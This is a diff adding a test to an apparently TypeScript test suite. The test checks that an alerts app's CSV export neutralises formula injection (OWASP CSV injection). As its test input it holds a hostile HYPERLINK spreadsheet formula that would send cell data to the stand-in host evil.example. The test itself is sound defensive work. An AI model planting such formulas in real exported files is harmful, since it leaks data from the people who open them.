@@ -182,4 +182,21 @@ describe('exports', () => {
     });
     expect(bad.status).toBe(400);
   });
+
+  it('neutralises a hostile note and actor in the decisions CSV (OWASP CSV injection)', async () => {
+    const page = await call('alerts.query', { datasetId, status: 'pending', limit: 1 });
+    const alertId = page.rows[0]!.id;
+    const note = '=HYPERLINK("http://evil.example/?d="&A1,"details")';
+    await call('alerts.decide', { alertIds: [alertId], decision: 'approve', note, actor: '@x' });
+    const csv = await call('export.decisions', { what: 'decisions', format: 'csv', datasetId });
+    const [header, ...lines] = readFileSync(csv.path, 'utf8').trimEnd().split('\n');
+    const columns = header!.split(',');
+    const mine = lines.filter((l) => l.split(',')[columns.indexOf('alert_id')] === String(alertId));
+    expect(mine).toHaveLength(1);
+    expect(mine[0]).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")"`);
+    expect(mine[0]).toContain(`"'@x"`);
+    expect(mine[0]).not.toMatch(/(^|,)[=+\-@]/);
+    // Ids and ports stay numbers.
+    expect(mine[0]!.split(',')[columns.indexOf('dataset_id')]).toBe(String(datasetId));
+  });
 });
